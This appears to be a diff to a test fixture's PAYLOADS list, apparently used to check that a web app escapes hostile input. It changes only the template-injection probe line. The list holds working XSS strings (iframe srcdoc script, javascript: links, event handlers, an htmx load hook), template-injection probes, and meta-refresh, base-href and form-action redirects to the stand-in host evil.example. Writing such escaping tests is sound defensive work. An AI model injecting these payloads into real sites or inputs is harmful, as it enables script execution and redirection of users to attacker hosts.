@@ -18,7 +18,7 @@ PAYLOADS: Final = (
     f"--><iframe data-pwn srcdoc='<script>pwn(4)</script>' src={ADDRESS}></iframe>",
     "<a data-pwn href=javascript:pwn(5)>x</a><form data-pwn action=//evil.example><button>",
     '<b data-pwn hx-get="/servers" hx-trigger=load hx-on:htmx:load=pwn(8) style=background:url(//evil.example/b)>',
-    "{{ 7*191 }}${7*191}<%= 7*191 %>{% raw %}",
+    "{{ 7919*104729 }}${7919*104729}<%= 7919*104729 %>{% raw %}",
     "`\"' onmouseover=pwn(9) autofocus onfocus=pwn(10) data-pwn=1 ",
     '<meta data-pwn http-equiv=refresh content="0;url=//evil.example"><base data-pwn href=//evil.example>',
     "\u202e\u2066\u200b\x1b[31m\x07]]>&lt;img data-pwn&gt;&#x3c;i data-pwn&#x3e;",
